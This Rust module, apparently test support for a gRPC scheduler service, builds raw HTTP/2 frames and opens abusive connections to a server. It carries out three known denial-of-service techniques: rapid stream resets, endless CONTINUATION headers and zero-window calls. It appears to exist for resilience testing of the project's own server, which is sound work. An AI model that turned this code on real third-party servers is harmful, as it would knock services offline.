//! Abuse of HTTP/2 by one caller: calls that are reset at once, headers without end, and answers
//! for which there is no room.

use tokio::{
    io::{AsyncWriteExt, copy, sink},
    net::TcpStream,
    task::JoinSet,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
/// Flags of frames.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

const RESETS: u32 = 20_000;
const HEADER_BYTES: usize = 64 << 20;
const CALLS_WITHOUT_WINDOW: u32 = 1_000;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}

/// The headers of a call, in HPACK.
fn call() -> Vec<u8> {
    let path = b"/rallypoint.v1.SchedulerService/ListSchedulers";
    // POST, http; the path, the host and the content type as they are.
    let mut block = vec![0x83, 0x86];
    for (name, value) in [
        (&[0x04][..], &path[..]),
        (&[0x01], b"here"),
        (&[0x0f, 0x10], b"application/grpc"),
    ] {
        block.extend(name);
        block.push(value.len() as u8);
        block.extend(value);
    }
    block
}

/// Says what it has to, as far as the server lets it, and hears whatever comes.
async fn say(address: String, pieces: impl Iterator<Item = Vec<u8>>) {
    let stream = TcpStream::connect(address).await.expect("it listens");
    let (mut from, mut to) = stream.into_split();
    let heard = tokio::spawn(async move { copy(&mut from, &mut sink()).await });
    for piece in pieces {
        // A server that has had enough of it hangs up.
        if to.write_all(&piece).await.is_err() {
            break;
        }
    }
    // The connection stays for as long as the server keeps it.
    let _ = heard.await;
}

fn settings(payload: &[u8]) -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, payload)].concat()
}

/// Calls that are reset at once.
fn resets() -> impl Iterator<Item = Vec<u8>> {
    let one = |stream| {
        let headers = frame(HEADERS, END_HEADERS, stream, &call());
        [headers, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    };
    let streams = (0..RESETS).map(move |number| one(2 * number + 1));
    [settings(&[])].into_iter().chain(streams)
}

/// Headers of one call that have no end.
fn headers() -> impl Iterator<Item = Vec<u8>> {
    // A header that is not kept: `x`, with a value of 100 bytes.
    let more = [&[0x00, 1, b'x', 100][..], &[b'y'; 100]]
        .concat()
        .repeat(150);
    let times = HEADER_BYTES / more.len();
    let begin = [settings(&[]), frame(HEADERS, 0, 1, &call())].concat();
    let more = (0..times).map(move |_| frame(CONTINUATION, 0, 1, &more));
    [begin].into_iter().chain(more)
}

/// Calls to whose answers the caller gives no room.
fn without_window() -> impl Iterator<Item = Vec<u8>> {
    let window = [0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0];
    let one = |stream| {
        let headers = frame(HEADERS, END_HEADERS, stream, &call());
        // An empty message.
        [headers, frame(DATA, END_STREAM, stream, &[0; 5])].concat()
    };
    let streams = (0..CALLS_WITHOUT_WINDOW).map(move |number| one(2 * number + 1));
    [settings(&window)].into_iter().chain(streams)
}

/// Has four connections of each kind abuse a server, until the set is dropped.
pub(crate) fn begin(address: &str) -> JoinSet<()> {
    let mut abuse = JoinSet::new();
    for _ in 0..4 {
        abuse.spawn(say(address.to_owned(), resets()));
        abuse.spawn(say(address.to_owned(), headers()));
        abuse.spawn(say(address.to_owned(), without_window()));
    }
    abuse
}
